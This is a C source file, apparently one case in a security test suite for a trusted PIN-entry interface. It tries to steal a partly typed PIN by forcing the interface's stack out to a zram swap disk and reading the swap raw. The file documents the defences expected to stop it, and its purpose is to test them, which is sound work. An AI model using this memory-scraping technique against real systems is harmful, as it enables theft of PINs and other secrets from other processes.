// SPDX-License-Identifier: Apache-2.0
/*
 * Turns on swap on a disk in memory, has the kernel page the trusted user interface's stack out
 * when most of a PIN is typed, and reads the swap.
 *
 * attack: swap_out
 * class: process
 * when: session
 * judge: keys
 * defence: confinement
 * why: swapon(2) and process_madvise(2) are denied, CAP_SYS_ADMIN gone; besides, tconn-tui on the
 *      module locks its memory, which cannot be paged out
 */
#include <errno.h>
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#include "file.h"
#include "memory.h"
#include "process.h"
#include "report.h"
#include "typing.h"

#define DISK	"/dev/zram0"
#define SIZE	"/sys/block/zram0/disksize"
#define RESET	"/sys/block/zram0/reset"
#define BYTES	(8u << 20)
#define PAGE	4096u
#define TYPED	6

/* The first page of a swap area, version 1. */
struct swap_header {
	char boot[1024];
	uint32_t version, last_page, bad_pages;
	char rest[PAGE - 1024 - 12 - 10];
	char magic[10];
} __attribute__((packed));

static int make_swap(void)
{
	struct swap_header header = {
		.version = 1, .last_page = BYTES / PAGE - 1, .magic = "SWAPSPACE2",
	};
	int fd, ret;

	file_write(RESET, "1");
	ret = file_write(SIZE, "8M");
	fd = ret ? -1 : open(DISK, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return ret ? ret : -errno;
	if (write(fd, &header, sizeof(header)) != sizeof(header) || fsync(fd))
		ret = -errno;
	close(fd);
	return ret ? ret : swapon(DISK, 0) ? -errno : 0;
}

static int page_out(pid_t pid)
{
	struct memory_range stack;
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	int ret = memory_find(pid, "[stack]", &stack);
	struct iovec range;

	if (pidfd < 0 || ret)
		return ret ? ret : -errno;
	range.iov_base = (void *)stack.start;
	range.iov_len = stack.end - stack.start;
	if (syscall(SYS_process_madvise, pidfd, &range, 1, MADV_PAGEOUT, 0) < 0)
		ret = -errno;
	close(pidfd);
	return ret;
}

/* Past the page cache, which may have the disk as it was. */
static int read_swap(void)
{
	int fd = open(DISK, O_RDONLY | O_DIRECT | O_CLOEXEC);
	char *memory = aligned_alloc(PAGE, BYTES);
	ssize_t got;

	if (fd < 0 || !memory)
		return -errno;
	got = read(fd, memory, BYTES);
	close(fd);
	if (got <= (ssize_t)PAGE)
		return -EIO;
	return process_report_digits(memory + PAGE, (size_t)got - PAGE) ? 0 : -ENOENT;
}

int main(void)
{
	pid_t pid;
	int ret;

	attack_init();
	if (access(SIZE, F_OK))
		attack_unavailable("this kernel has no zram loaded");
	ret = make_swap();
	attack_ready();
	if (ret)
		attack_failed("no swap: %s", strerror(-ret));
	pid = process_wait_tui();
	ret = pid && typing_wait(TYPED) ? page_out(pid) : -ESRCH;
	if (!ret)
		ret = read_swap();
	swapoff(DISK);
	if (ret)
		attack_failed("nothing in the swap: %s", strerror(-ret));
	attack_done();
}
